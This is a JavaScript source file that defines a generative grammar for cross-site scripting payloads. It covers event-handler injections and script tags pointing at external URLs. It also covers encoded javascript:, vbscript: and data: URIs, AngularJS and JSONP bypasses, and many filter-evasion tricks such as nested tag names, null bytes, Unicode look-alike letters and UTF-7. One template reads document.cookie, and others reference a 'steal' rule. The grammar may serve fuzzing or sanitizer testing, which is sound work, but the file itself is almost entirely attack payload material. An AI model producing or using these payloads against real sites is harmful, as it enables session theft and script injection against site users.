/** What no grammar sign stands for: form feed, vertical tab, the line separator of JavaScript, zero width space. */
const FF = '\f'
const VT = '\v'
const LS = '\u2028'
const ZWSP = '\u200b'

/**
 * What carries the scripts of cross-site scripting: elements with handlers and script URIs, scripts, styles, SVG.
 * A handler `xs.h` is written for the event bound as `ev`.
 */
export const XSS_MARKUP = String.raw`
xs.ev = click dblclick auxclick contextmenu mouseover mouseenter mousemove mousedown mouseup mouseout mouseleave wheel mousewheel pointerover pointerenter pointermove pointerdown pointerup pointerout pointerleave pointercancel gotpointercapture lostpointercapture pointerrawupdate touchstart touchend touchmove touchcancel keydown keyup keypress focus blur focusin focusout copy cut paste beforecopy beforecut beforepaste beforeinput input change invalid reset submit select selectstart selectionchange search drag dragstart dragend dragenter dragleave dragover drop scroll scrollend scrollsnapchange scrollsnapchanging resize animationstart animationend animationiteration animationcancel transitionstart transitionrun transitionend transitioncancel webkitanimationstart webkitanimationend webkitanimationiteration webkittransitionend toggle beforetoggle beforematch fullscreenchange webkitfullscreenchange securitypolicyviolation contentvisibilityautostatechange slotchange formdata compositionstart compositionupdate compositionend webkitmouseforcechanged webkitmouseforcedown webkitmouseforceup webkitmouseforcewillbegin webkitwillrevealbottom activate beforeactivate deactivate beforedeactivate help losecapture layoutcomplete propertychange readystatechange filterchange rowenter dataavailable controlselect move movestart resizestart mscontentzoom mspointerover msgesturestart bounce start finish begin end repeat load error unload beforeunload pageshow pagehide hashchange popstate message storage online offline afterprint beforeprint loadstart loadend loadeddata loadedmetadata canplay canplaythrough play playing pause ended progress timeupdate volumechange ratechange seeking seeked stalled suspend waiting durationchange emptied abort cuechange show close cancel devicemotion deviceorientation gamepadconnected rejectionhandled unhandledrejection languagechange command enterpictureinpicture encrypted
xs.evhover = mouseover mouseover mouseenter mousemove mouseout mouseleave pointerover pointerenter pointermove pointerout pointerrawupdate wheel mousewheel mousedown mouseup click click dblclick auxclick contextmenu pointerdown pointerup touchstart touchmove touchend drag dragstart dragenter copy cut paste keydown keyup selectstart gotpointercapture
xs.evfocus = focus focus focus focusin blur focusout activate beforeactivate select
xs.evimage = error error error error load loadstart loadend abort click mouseover pointerenter
xs.evmedia = error error loadstart loadeddata loadedmetadata canplay canplaythrough play playing timeupdate progress suspend stalled waiting durationchange volumechange ratechange seeked seeking ended emptied pause encrypted
xs.evframe = load load load error pageshow beforeunload message
xs.evbody = load load load pageshow error focus hashchange message resize scroll scrollend beforeunload unload pagehide popstate storage online offline afterprint beforeprint beforeinput keydown click pointermove wheel securitypolicyviolation languagechange blur
xs.evsvg = load load load load begin end error click mouseover focusin activate zoom unload resize scroll
xs.tag = a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br button canvas caption center cite code col colgroup command content custom data datalist dd del details dfn dialog dir div dl dt element em embed fieldset figcaption figure font footer form frame frameset h1 h2 h3 h6 head header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee math menu menuitem meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p param picture plaintext pre progress q rb rp rt rtc ruby s samp search section select shadow slot small source spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr xmp ‹~1› ‹~1-3› ‹~2-8› ‹~2-5›-‹~2-6› ‹~1›:‹~1-4› xss ‹~3-6›‹#1-9› fake-‹~2-5›
xs.t: 5× ‹xs.tag›
  ‹mixed!‹xs.tag››
  ‹upper!‹xs.tag››
xs.sp = ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ / / / / / / ⇥ ⇥ ⏎ ⏎ ␍⏎ ${FF} ␠␠ // /‹~1-5›/ /‹~1-5›/ ␠/ /␠ ␠‹~1-4›␠ /‹n›/
  ␠/‹~1-3›/␠ /**/ /´/ ␠‹~1-3›="‹~0-3›"␠ + %20 %09 %0a %0c %0d %0A%0d ⇥⏎⇥ /⏎/ /"/
xs.gap = ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ / / / / ⏎ ⇥ ␠⏎
xs.eq = = = = = = = = = = = = = = = = = = = = = = = ␠=␠ ␠=␠ =␠ ␠= =⏎ ⏎= ⇥=⇥ =${FF} %3d ␠=⏎ =␀
xs.end = > > > > > > > > > > > > > > /> /> /> /> ␠/> ␠/> ∅ ∅ ␠ // // ␠// ␠‹~1-3›= ␠‹~1-3›=" >‹rnd› ><!-- ⏎> < ␠<‹~1-3›
  >‹word› ;> />‹word› ␠␠> %3e ␠‹~1-4›> >> >// --!>
xs.nm = on‹=ev› on‹=ev› on‹=ev› on‹=ev› on‹=ev› on‹=ev› on‹=ev› on‹=ev› on‹=ev› ‹mixed!on‹=ev›› ‹mixed!on‹=ev››
  ‹upper!on‹=ev›› on‹upper!‹=ev›› On‹=ev›
xs.h: 9× ‹xs.nm›‹xs.eq›‹:q:‹'¦"¦´››‹xs.tight›
  6× ‹xs.nm›‹xs.eq›"‹:q:‹'¦'¦´¦&quot;¦&#39;¦&apos;››‹xs.js›"
  4× ‹xs.nm›‹xs.eq›'‹:q:‹"¦"¦´¦&#34;¦&#x27;››‹xs.js›'
  ‹xs.nm›‹xs.eq›´‹:q:‹'¦"››‹xs.tight›´
  ‹xs.nm›‹xs.eq›"‹:q:'›‹xs.coat›"
  ‹xs.nm›‹xs.eq›‹:q:'›‹xs.coat›
  ‹xs.nm›‹xs.eq›"‹:q:'›javascript:‹xs.js›"
  ‹xs.nm›‹xs.eq›"‹:q:'›‹xs.js›
  ‹xs.nm›‹xs.eq›\"‹:q:'›‹xs.tight›\"
  ‹xs.nm›‹xs.eq›&quot;‹:q:'›‹xs.tight›&quot;
  ‹xs.nm›‹xs.eq›”‹:q:’›‹xs.tight›”
  ‹xs.nm›‹xs.eq›"vbscript:‹msgbox¦MsgBox¦alert›(‹n›)"
  ‹xs.nm›‹xs.eq›‹:q:'›{‹xs.tight›}
  ‹xs.nm›‹xs.eq›‹:q:'›(‹xs.tight›)
  ‹xs.nm›␀‹xs.eq›‹:q:'›‹xs.tight›
  on‹=ev›${ZWSP}=‹:q:'›‹xs.tight›
  ‹xs.nm›‹xs.eq›‹:q:'›‹xs.tight›‹xs.gap›‹:ev:‹xs.ev››‹xs.nm›=‹xs.tight›
xs.coat: ‹entity!‹xs.call››
  ‹entityHex!‹xs.call››
  &#‹=i:0000›97;lert(‹n›)
  &#x0000‹61¦061›;lert(‹n›)
  a&#x6c;ert&#40;‹n›&#41
  &#97&#108&#101&#114&#116(‹n›)
  ‹xs.base›&lpar;‹n›&rpar;
  ‹xs.base›&lpar;&quot;‹rnd›&quot;&rpar;
  ‹xs.base›&DiacriticalGrave;‹n›&DiacriticalGrave;
  &bsol;u0061lert&lpar;‹n›&rpar;
  top&lbrack;&apos;al&apos;&plus;&apos;ert&apos;&rbrack;&lpar;‹n›&rpar;
  &Tab;‹xs.base›(‹n›)
  &NewLine;‹xs.base›(‹n›)
  javascript&colon;‹xs.base›(‹n›)
  ‹xs.base›%28‹n›%29
  ‹xs.base›&amp;#40;‹n›&amp;#41;
  &Tab;eval&lpar;name&rpar;&semi;
  window&period;‹xs.base›&#x28;document&period;cookie&#x29;
xs.decoy = id=‹xs.id› id=‹xs.id› class="‹~3-9›"
  style="‹display:block¦width:100%;height:100%¦position:fixed;top:0;left:0¦font-size:‹#20-999›px¦position:absolute;z-index:‹#9-99999›;width:‹#10-9999›px;height:‹#10-9999›px¦x:‹~2-4›¦opacity:0¦transition:‹~2-7›␠1s›"
  style=‹display:block¦display:inline-block¦height:‹#100-9999›px› tabindex=‹#0-9› contenteditable contenteditable=true
  draggable=true title="‹word›" name=‹~2-7› hidden data-‹~2-6›="‹~2-6›" ‹~1-5› ‹~2-6›=‹~1-5› accesskey=‹~1› alt=‹~2-6›
  width=‹#1-999› dir=rtl lang=‹en¦de› popover xmlns="http://www.w3.org/1999/xhtml" href=#‹~0-3› aria-label="‹word›"
  role=‹~3-6› '‹~1-3›' "‹~1-3›" <‹~1-3› is=‹~2›-‹~2› x-‹~1-5› itemscope autofocus
xs.pre: 9× ∅
  3× ‹xs.decoy›‹xs.gap›
  ‹xs.decoy› ‹xs.decoy›‹xs.gap›
xs.text = ‹rnd› ‹rnd› ‹word› ‹word› click‹¦␠me¦␠here¦me› XSS test X ‹hover¦touch¦drag¦press¦copy¦paste¦scroll›␠me
  ‹^1›‹~2-6›␠‹~2-8› ∅
xs.close = ∅ ∅ ∅ </‹=t›> </‹=t› </‹~1-3›> ‹xs.text›</‹=t›> ‹xs.text› ‹xs.text›</‹=t›>‹xs.text›
xs.src = x x x x x ‹~1-4› ‹~1-4› ‹~1-4› ‹n› ‹n› # / . "" '' ‹'¦"¦›x‹~1-3› "‹~1-5›" '‹~1-4›' ´‹~1-3›´ ‹~1›:‹~1› // ? !
  data:‹~0-3› data:image/‹gif¦png›;base64,‹*4-20› /‹noun›.‹jpg¦png¦gif› https://‹host›/‹~1-5›.‹png¦jpg›
  //‹host›/‹~1-4› "‹noun›.jpg" javascript:‹~1-3› valid.gif %00 &#0; \x http://‹ip›/‹~1-5› /// ] :
xs.imgtag = img img img img IMG Img iMg ImG image IMAGE img/ iMAGE
xs.image: 8× <‹xs.imgtag›‹xs.sp›‹src¦SRC¦Src¦sRc›‹xs.eq›‹xs.src›‹xs.sp›‹:ev:‹xs.evimage››‹xs.h›‹xs.end›
  3× <‹xs.imgtag›‹xs.sp›‹:ev:‹xs.evimage››‹xs.h›‹xs.gap›src‹xs.eq›‹xs.src›‹xs.end›
  2× <‹xs.imgtag›‹xs.sp›src‹xs.sp›‹:ev:error›‹xs.h›‹xs.end›
  <‹xs.imgtag›‹xs.sp›‹xs.decoy›‹xs.gap›src=‹xs.src›‹xs.gap›‹xs.decoy›‹xs.gap›‹:ev:‹xs.evimage››‹xs.h›‹xs.end›
  <img src=‹xs.src› ‹:ev:error›‹xs.h› ‹:ev:load›‹xs.h›‹xs.end›
  <img ‹srcset¦longdesc¦dynsrc¦lowsrc¦imagesrcset›=‹xs.src› ‹:ev:error›‹xs.h›‹xs.end›
  <img src="‹:q:'›‹xs.jsuri›"‹xs.end›
  <img ‹dynsrc¦lowsrc›="‹:q:'›‹xs.jsuri›"‹xs.end›
  <img """><script>‹:q:'›‹xs.call›</script>">
  <img src="‹~1-3›´ ´<script>‹:q:'›‹xs.call›</script>"´ ´>
  <img src='‹~1›' ‹:ev:error›‹xs.h› '‹~1›'=‹~1›>
  <img‹xs.sp›‹:q:'›src=‹~1›‹xs.sp›onerror="‹xs.js›"style="‹~2-6›:‹~1-6›"‹xs.end›
  <input‹xs.sp›type‹xs.eq›‹"image"¦image¦IMAGE›‹xs.gap›src=‹xs.src›‹xs.gap›‹:ev:‹xs.evimage››‹xs.h›‹xs.end›
  <picture><source srcset="‹~1-3›"><img ‹:ev:error›‹xs.h›></picture>
  <picture><img srcset="‹~1-4›" ‹:ev:error›‹xs.h›></picture>
  <table background="‹:q:'›‹xs.jsuri›"‹xs.end›
  <‹td¦body¦tr¦th› background="‹:q:'›‹xs.jsuri›"‹xs.end›
  <link rel=‹icon¦preload¦stylesheet¦prefetch¦modulepreload› href=‹xs.src› ‹:ev:‹error¦load››‹xs.h›‹xs.end›
  <link rel="stylesheet" href="‹:q:'›‹xs.jsuri›"‹xs.end›
  <bgsound src="‹:q:'›‹xs.jsuri›"‹xs.end›
  <object data="‹~1-5›" ‹:ev:error›‹xs.h›></object>
  <script src=‹xs.src› ‹:ev:‹error¦load››‹xs.h›></script>
  <style ‹:ev:‹load¦error››‹xs.h›></style>
  <meta ‹:ev:load›‹xs.h›>
  <area shape=rect coords=0,0,‹#9-999›,‹#9-999› ‹:ev:‹xs.evhover››‹xs.h›>
  <img usemap=#‹=i:‹~1-4››><map name=‹=i›><area coords="0,0,‹#99-999›,‹#99-999›" href="‹:q:'›‹xs.jsuri›"></map>
xs.media: 4× <‹=t:‹video¦audio¦VIDEO¦Audio››‹xs.sp›src‹¦=‹xs.src››‹xs.sp›‹:ev:‹xs.evmedia››‹xs.h›‹xs.end›
  3× <‹=t:‹video¦audio››‹xs.gap›‹controls¦autoplay¦muted autoplay¦loop autoplay¦preload=auto¦playsinline›‹xs.gap›‹:ev:‹xs.evmedia››‹xs.h›><source src="‹~2-6›.‹mp4¦webm¦wav¦ogg›"‹ type="‹video/mp4¦audio/wav¦audio/mpeg›"¦›></‹=t›>
  3× <‹=t:‹video¦audio››><source‹xs.sp›‹:ev:error›‹xs.h›‹xs.end›
  <‹=t:‹video¦audio››><source‹xs.sp›src=‹xs.src›‹xs.gap›‹:ev:error›‹xs.h›></‹=t›>
  <video poster="‹:q:'›‹xs.jsuri›"‹xs.end›
  <video poster=‹xs.src› ‹:ev:‹error¦loadstart››‹xs.h›‹xs.end›
  <video controls ‹:ev:‹play¦pause¦volumechange¦click››‹xs.h› src=data:video/mp4;base64,‹*10-60›></video>
  <video><track default src="‹~1-5›" ‹:ev:‹load¦error¦cuechange››‹xs.h›></video>
  <video src=‹~1-5›.mp4><track kind=subtitles src="data:text/vtt,WEBVTT%0a%0a00:00.000 --> 00:05.000%0a‹~2-6›" default ‹:ev:cuechange›‹xs.h›>
  <audio src ‹:ev:loadstart›‹xs.h› ‹:ev:error›‹xs.h›>
  <video src="‹~1-4›" ‹:ev:enterpictureinpicture›‹xs.h› controls></video>
  <audio id=‹=i:‹~1-4›› src=‹~1-3›></audio><script>‹:q:'›‹=i›.onerror=‹xs.base›</script>

xs.sopen: 8× <script>
  2× <SCRIPT>
  3× <‹mixed!script›>
  2× <script‹xs.sp›‹~1-6›>
  <script >
  <script/>
  <script⏎>
  <script⇥>
  <script␀>
  <script${FF}>
  <script//>
  <script ‹type=text/javascript¦type="module"¦language=javascript¦language="‹JavaScript¦vbscript¦jscript¦JScript.Encode¦php¦ECMAScript›"¦type="text/‹ecmascript¦jscript¦livescript¦x-javascript¦javascript1.‹#0-5››"¦type="application/‹javascript¦ecmascript¦x-javascript›"¦type=‹'¦"›text/javascript‹'¦"›¦async¦defer¦nomodule¦nonce=‹*6-16›¦charset="‹utf-7¦UTF-16¦utf-8›"¦crossorigin¦id=‹~1-5›¦for=window event=onload¦type=module async¦data-‹~2-5›=‹~1-4››>
  <script ‹~1-6›="‹>¦blah>¦‹~1-4››">
  <script ‹~1-3›='>'>
  <script/‹~1-4›=‹~1-4›>
  <script\x‹00¦09¦0a¦0c¦0d¦20¦2f¦3e›>
  <‹script¦SCRIPT›%‹00¦0a¦09¦20¦0c¦0d¦0b›>
  <script ~~~>
  <script x>⏎
  <‹~1-4›:script xmlns:‹~1-4›="http://www.w3.org/1999/xhtml">
  <script<!---->
  < script>
  <script><!--⏎
  <script>//<![CDATA[⏎
  <script⏎type="text/javascript"⏎>
xs.sclose = </script> </script> </script> </script> </script> </script> </script> </script> </script> </script>
  </SCRIPT> </SCRIPT> </‹mixed!script›> </‹mixed!script›> ⏎</script> </script␠> </script </script⏎‹~1-5›>
  </script/‹~1-5›> </script␠‹~1-6›> </script</script> ∅ ∅ <!-- //</script> /*</script> ;</script> //--></script>
  ⏎//]]></script> < </script>‹word› <‹~1-3›> <\/script> </SCRIPT/x>
xs.sbody: 10× ‹:q:‹'¦'¦"¦"¦´››‹xs.js›
  ‹:q:"›//‹rnd›⏎‹xs.js›
  ‹:q:'›/*‹~0-5›*/‹xs.js›
  ‹:q:'›⏎‹xs.js›⏎
  ‹:q:'›var ‹=i:‹xs.id››=‹n›;‹xs.js›
  ‹:q:'›;‹xs.js›;
  ‹:q:'›⇥‹xs.js›
  ‹:q:"›{‹xs.js›}
  ‹:q:'›+‹xs.call›
  ‹:q:'›‹~1-4›:‹xs.call›
  ‹:q:'›#!‹~0-5›⏎‹xs.call›
  ‹:q:'›--><!--⏎‹xs.call›
  ‹:q:'›window.onload=function(){‹xs.js›}
  ‹:q:'›§(function(){‹xs.js›})
  ‹:q:'›document.addEventListener('DOMContentLoaded',()=>{‹xs.js›})
  ‹:q:'›setTimeout(function(){‹xs.js›},‹#0-9999›)
  ‹:q:'›'use strict';‹xs.js›
  ‹:q:&quot;›‹xs.call›
  ‹:q:\'›‹xs.call›
  ‹:q:\"›‹xs.call›
  ‹:q:%27›‹xs.call›
xs.scriptsrc: 5× <script‹xs.sp›src‹xs.eq›‹"¦'¦›‹=u:‹xs.url››‹"¦'¦›></script>
  3× <script‹xs.sp›src=‹xs.url›‹xs.end›</script>
  2× <script src="‹xs.url›"></script>
  2× <script src='‹xs.url›'></script>
  2× <‹mixed!script›‹xs.sp›‹mixed!src›=‹"¦›‹xs.url›‹"¦›></‹mixed!script›>
  <script src=‹xs.url›
  <script src=‹xs.url›#
  <script src="‹xs.url›?‹~1-4›=‹~1-5›&‹~1-3›" ‹async¦defer¦crossorigin=anonymous¦integrity=""›></script>
  <script type=module src="‹xs.url›"></script>
  <script src="data:‹text/javascript¦application/javascript¦›,‹:q:'›‹xs.call›"></script>
  <script src=data:‹text/javascript¦;charset=utf-8¦›,‹:q:'›‹xs.tight›></script>
  <script src="data:‹text/javascript¦application/x-javascript¦text/plain›;base64,‹b64!‹xs.hidden››"></script>
  <script src='data:,‹:q:"›‹xs.call›//'></script>
  <script/src="data:&comma;‹xs.base›(‹n›)//"></script>
  <script src=data&colon;text/javascript,‹xs.base›%28‹n›%29></script>
  <script ‹~1-4›=">" src="‹xs.url›"></script>
  <script ‹~1-4›='‹~0-3›>' src=‹xs.url›></script>
  <script =">" src="‹xs.url›"></script>
  <script ‹~1-3› '' src="‹xs.url›"></script>
  <script>document.write("<scri");</script>pt src="‹xs.url›"></script>
  <script src="/‹noun›/‹~2-6›?‹callback¦jsonp¦cb¦jsoncallback›=‹xs.base›(‹n›)//"></script>
  <script src="https://‹~3-8›.‹com¦net›/‹~2-6›/‹o/oauth2/revoke¦complete/search¦‹~2-6››?client=‹~3-6›&‹jsonp¦callback›=‹xs.base›(‹n›);"></script>
  <script src=/‹~2-7›.‹js¦php›?‹callback¦cb›=‹xs.base›></script>
  <script src="//cdn‹.‹~4-9›.com¦js.‹~4-9›.net›/‹angular.js/1.‹#0-8›.‹#0-9›/angular.min.js¦prototype/1.‹#5-7›/prototype.js›"></script><‹=t:div› ng-app ng-csp>{{§eval.constructor('‹xs.base›(‹n›)')()}}</div>
  <svg><script‹ xlink:¦/xlink:¦ ›href=‹"¦›‹‹xs.url›¦data:,‹xs.base›(‹n›)›‹"¦›‹></script>¦ />¦/>›</svg>
  <script>‹:q:'›‹xs.hook›</script>
  <script>import'‹xs.url›'</script>
  <script type=module>import ‹~1-4› from '‹xs.url›'</script>
  <script type="importmap">{"imports":{"‹~2-6›":"‹xs.url›"}}</script>
  <script type=speculationrules>{"prefetch":[{"source":"list","urls":["‹xs.url›"]}]}</script>
  <base href="‹xs.url›"><script src="‹~1-6›.js"></script>
  <iframe srcdoc="<script src=‹xs.url›></script>"></iframe>
  <iframe srcdoc='&lt;script src=&quot;‹xs.url›&quot;&gt;&lt;/script&gt;'>
xs.script: 6× ‹xs.sopen›‹xs.sbody›‹xs.sclose›
  3× <script>‹xs.sbody›</script>
  3× ‹xs.scriptsrc›
  <svg><script>‹entity!‹xs.base›(‹n›)›</script>
  <svg><script>‹xs.base›&lpar;‹n›&rpar;</script></svg>
  <svg><script>/*&midast;/‹xs.base›&lpar;‹n›&rpar;//*/</script>
  <svg><script>‹:q:&apos;›‹xs.call›</script>
  <svg><script type=‹~2-5›>‹:q:'›‹xs.call›</script></svg>
  <svg><a><script>‹:q:'›‹xs.call›</script></a></svg>
  <math><script>‹:q:'›‹xs.call›</script></math>
  <script>‹xs.sbody›</script><script>‹xs.sbody›</script>
  <script>/*</script><script>*/‹:q:'›‹xs.call›</script>
  <script>´</div><div>´;‹:q:'›‹xs.call›</script>
  <script>var ‹=i:‹~1-3››='<!--<script>';</script>‹xs.sopen›‹xs.sbody›</script>
  <!--><script>‹:q:'›‹xs.call›</script>-->
  <!--><script>‹:q:'›‹xs.call›//-->
  <![CDATA[><script>‹:q:'›‹xs.call›</script>]]>
  <!--[if ‹gte IE 4¦IE¦true›]><script>‹:q:'›‹xs.call›</script><![endif]-->
  <? ‹~1-3›="><script>‹:q:'›‹xs.call›</script>">
  <! ‹~1-3›="><script>‹:q:'›‹xs.call›</script>">
  </ ‹~1-3›="><script>‹:q:'›‹xs.call›</script>">
  <% ‹~1-3›="><script>‹:q:'›‹xs.call›</script>">
  <script>({set/**/§(‹=i:‹~1››){_/**/setter=§,_=‹xs.base›}}).§=‹n›</script>
  <script>‹~1-4›=‹=i:document›.‹~1-3›;onload=()=>{‹:q:'›‹xs.call›}</script>
  <script event=onload for=window>‹:q:'›‹xs.call›</script>
  <script language=vbscript>‹MsgBox ‹n›¦document.write("‹~2-5›")›</script>
  <script>‹×2-6:‹:q:'›‹xs.call›;›</script>
  <noscript><p title="</noscript><script>‹:q:'›‹xs.call›</script>">
  <style><script>‹:q:'›‹xs.call›</script></style></style><script>‹xs.call›</script>
  <script id=‹=i:‹~2-4››>‹:q:'›‹xs.call›</script ‹=i›>
  <template shadowrootmode=‹open¦closed›><script>‹:q:'›‹xs.call›</script></template>
  <div><template shadowrootmode=open><slot ‹:ev:slotchange›‹xs.h›></slot></template>‹~1-3›</div>
xs.filter: 2× <scr‹=s:<script>›ipt>‹:q:'›‹xs.call›</scr</script>ipt>
  <scr<‹~2-6›>ipt>‹:q:'›‹xs.call›</scr</‹~2-6›>ipt>
  <scr<!--‹~0-4›-->ipt>‹:q:'›‹xs.call›</scr<!--‹~0-4›-->ipt>
  <‹s¦sc¦scr¦scri›<script>‹cript¦ript¦ipt¦pt›>‹:q:"›‹xs.call›</‹s¦sc¦scr›</script>‹cript¦ript¦ipt›>
  <scriscriptpt>‹:q:'›‹xs.call›</scriscriptpt>
  <scrscriptipt src=‹xs.url›></scrscriptipt>
  <<script>‹:q:"›‹xs.call›//<</script>
  <<SCRIPT>‹:q:"›‹xs.call›//\<</SCRIPT>
  <<<script>>>‹:q:'›‹xs.call›<<</script>
  <script<script>>‹:q:'›‹xs.call›</script</script>>
  <‹xs.nul›script>‹:q:'›‹xs.call›</‹xs.nul›script>
  <scr‹xs.nul›ipt>‹:q:'›‹xs.call›</scr‹xs.nul›ipt>
  <s‹xs.nul›c‹xs.nul›r‹xs.nul›i‹xs.nul›p‹xs.nul›t>‹:q:'›‹xs.call›</s‹xs.nul›c‹xs.nul›r‹xs.nul›i‹xs.nul›p‹xs.nul›t>
  <img src=x on‹xs.nul›error=‹xs.base›(‹n›)>
  <img src=x one‹script¦onerror¦‹~1-4››rror=‹xs.base›(‹n›)>
  <img src=x ononerrorerror=‹xs.base›(‹n›)>
  <i<img>mg src=x onerror=‹xs.base›(‹n›)>
  <im<‹~1-4›>g src=x onerror=‹xs.base›(‹n›)>
  <svg/on<script>load=‹xs.base›(‹n›)>
  <svg/onload="al<‹~1-4›>ert(‹n›)">
  <iframe src=jav<‹~1-4›>ascript:‹xs.base›(‹n›)>
  <iframe src=javajavascript:script:‹xs.base›(‹n›)>
  <a href=javajavascriptscript:‹xs.base›(‹n›)>‹xs.text›
  <scr\x00ipt>‹:q:'›‹xs.call›</scr\x00ipt>
  <scr\ipt>‹:q:'›‹xs.call›</scr\ipt>
  <sc\r\i\pt>‹:q:'›‹xs.call›</sc\r\i\pt>
  <script>‹:q:'›aalertlert(‹n›)</script>
  <script>al‹¦⏎¦/**/›ert(‹n›)</script>
  <ſcript>‹:q:'›‹xs.call›</ſcript>
  <ſcript src=‹xs.url›></ſcript>
  <ımg src=x onerror=‹xs.base›(‹n›)>
  <scrıpt>‹xs.base›(‹n›)</scrıpt>
  ‹<¦%3C¦\x3c¦\u003c¦&lt;¦+ADw-›script‹>¦%3E¦\x3e¦\u003e¦&gt;¦+AD4-›‹:q:'›‹xs.call›‹<¦%3C¦\x3c¦\u003c¦&lt;¦+ADw-›/script‹>¦%3E¦\x3e¦\u003e¦&gt;¦+AD4-›
  <%00script>‹:q:'›‹xs.call›</script>
  <script>‹:q:'›‹xs.call›</scr
  <‹~1-3›/><script>‹:q:'›‹xs.call›</script>
  <‹~1-3› ‹~1-3›="'><script>‹:q:"›‹xs.call›</script>
  \<script\>‹:q:'›‹xs.call›\</script\>
  [removed]<script>[removed]‹:q:'›‹xs.call›[removed]</script>
  {{‹~2-5›}}<script>‹:q:'›‹xs.call›</script>
  <a"'%0A´= +%20>;test<a"'%0A´= +%20>?test<script>‹xs.base›(‹n›)</script>
  <‹img¦svg¦body›/‹×20-200:‹~1››/onload=‹xs.base›(‹n›)>
  <svg‹×20-90:␠›onload=‹xs.base›(‹n›)>
  <img/src='‹*50-300›'onerror=‹xs.base›(‹n›)>
xs.nul = ␀ ␀ ␀ %00 \0 &#0; ⇥ ${VT} ${ZWSP} %0b /**/

xs.scheme = javascript: javascript: javascript: javascript: javascript: javascript: javascript: javascript:
  ‹mixed!javascript›: ‹mixed!javascript›: JAVASCRIPT: javascript&colon; javascript&#‹58¦x3a¦x3A¦0000058¦x003a›;
  javascript&#‹58¦x3a› java‹&Tab;¦&NewLine;¦&#9;¦&#10;¦&#13;¦&#x0A;¦&#x09;¦&#xd;¦⇥¦⏎¦␍⏎›script:
  jav‹&Tab;¦&NewLine;¦&#x0A;¦⇥¦⏎›ascript: j‹⇥¦⏎›a‹⇥¦⏎›v‹⇥¦⏎›a‹⇥¦⏎›s‹⇥¦⏎›c‹⇥¦⏎›r‹⇥¦⏎›i‹⇥¦⏎›p‹⇥¦⏎›t‹⇥¦⏎›:
  j&Tab;a&Tab;v&Tab;a&Tab;s&Tab;c&Tab;r&Tab;i&Tab;p&Tab;t&colon; javascript‹⇥¦⏎¦&Tab;¦&NewLine;›:
  ‹␠¦⇥¦&#1;¦&#x1;¦&#14;␠␠¦&#x20;¦\x01¦\x1f¦&nbsp;¦&Tab;›javascript: ‹entity!javascript›: ‹entityHex!javascript:›
  ‹entity!j›avascript: jav&#x61;‹&#115;cript¦script›: \u006aavascript: \x6aavascript: ‹backslashHex!javascript:›
  javascript%3a java%0‹a¦d¦9›script: java%00script: j%61vascript: %6aavascript: &#00106;&#0097;vascript:
  &#x6A&#x61&#x76&#x61script: javascript:javascript: feed:javascript: view-source:javascript: jar:javascript:
  java\script: ‹livescript¦mocha›:
xs.jsuri: 8× ‹xs.scheme›‹xs.call›
  3× ‹xs.scheme›‹xs.js›
  2× ‹xs.scheme›//%0‹a¦d›‹xs.call›
  ‹xs.scheme›//‹host›/%0a‹xs.call›
  ‹xs.scheme›//‹~2-5›⏎‹xs.call›
  ‹xs.scheme›//%E2%80%A8‹xs.call›
  ‹xs.scheme›//${LS}‹xs.call›
  ‹xs.scheme›/*‹~2-5›*/‹xs.call›
  ‹xs.scheme›//https://‹host›/%0D%0A‹xs.call›
  ‹xs.scheme›/*https://‹host›/*/‹xs.call›
  ‹xs.scheme›https://‹host›/%0a‹xs.call›
  ‹xs.scheme›//‹~2-6›@‹host›/%0a‹xs.call›
  ‹xs.scheme›"<svg/onload=‹xs.base›(‹n›)>"
  ‹xs.scheme›´<script>‹xs.base›(‹n›)</script>´
  ‹xs.scheme›'\x3cscript\x3e‹xs.base›(‹n›)\x3c/script\x3e'
  ‹xs.scheme›%22%3Cimg src=x onerror=‹xs.base›(‹n›)%3E%22
  ‹xs.scheme›‹percent!‹xs.call››
  ‹xs.scheme›‹percentAll!‹xs.base›(‹n›)›
  ‹xs.scheme›%61lert(‹n›)
  ‹xs.scheme›‹entity!‹xs.base›(‹n›)›
  ‹xs.scheme›void(‹xs.call›)
  ‹xs.scheme›‹n›;‹xs.call›
  ‹xs.scheme›eval('‹xs.base›(‹n›)')
  ‹xs.scheme›return‹~0-3›(‹xs.call›)
  ‹xs.scheme›‹xs.call›//‹scheme›://‹host›/
  ‹xs.scheme›‹xs.call›;//.‹jpg¦png¦html›
  ‹xs.scheme›(function(){‹xs.steal›})()
  ‹xs.scheme›document.write('‹xs.tiny›')
  ‹xs.scheme›´§{‹xs.call›}´
  ‹vbscript¦VbScript¦vbs¦VBSCRIPT›:‹msgbox(‹n›)¦MsgBox("‹~2-6›")¦Execute(MsgBox(chr(‹#65-90›)))¦alert(‹n›)›
xs.datauri: 3× data:text/html,<script>‹:q:'›‹xs.call›</script>
  data:text/html,‹xs.tiny›
  3× data:text/html;base64,‹b64!<script>‹:q:'›‹xs.call›</script>›
  data:text/html;base64,‹b64!‹xs.tiny››
  data:text/html;charset=utf-8,‹percent!‹xs.tiny››
  data:text/html;charset=utf-16,‹percentAll!<script>‹xs.base›(‹n›)</script>›
  data:text/html;charset=UTF-7,+ADw-script+AD4-‹xs.base›(‹n›)+ADw-/script+AD4-
  data:‹application/xhtml+xml¦text/xml›,<html xmlns="http://www.w3.org/1999/xhtml"><script>‹xs.base›(‹n›)</script></html>
  data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="‹xs.base›(‹n›)"/>
  data:image/svg+xml;base64,‹b64!<svg xmlns="http://www.w3.org/2000/svg" onload="‹xs.base›(‹n›)"/>›
  data:,<script>‹xs.base›(‹n›)</script>
  data:text/html,‹percentAll!<svg/onload=‹xs.base›(‹n›)>›
  data:‹text¦html¦x›/html,<script>‹xs.base›(‹n›)</script>
  DATA:tExt/hTmL,‹xs.tiny›
  data:;base64,‹b64!‹xs.tiny››
  data&colon;text/html,<script>‹xs.base›&lpar;‹n›&rpar;</script>
  data:text/html;‹~2-5›=‹~1-4›;base64,‹b64!<script src=//‹host›></script>›
xs.uri: 4× ‹xs.jsuri›
  2× ‹xs.datauri›

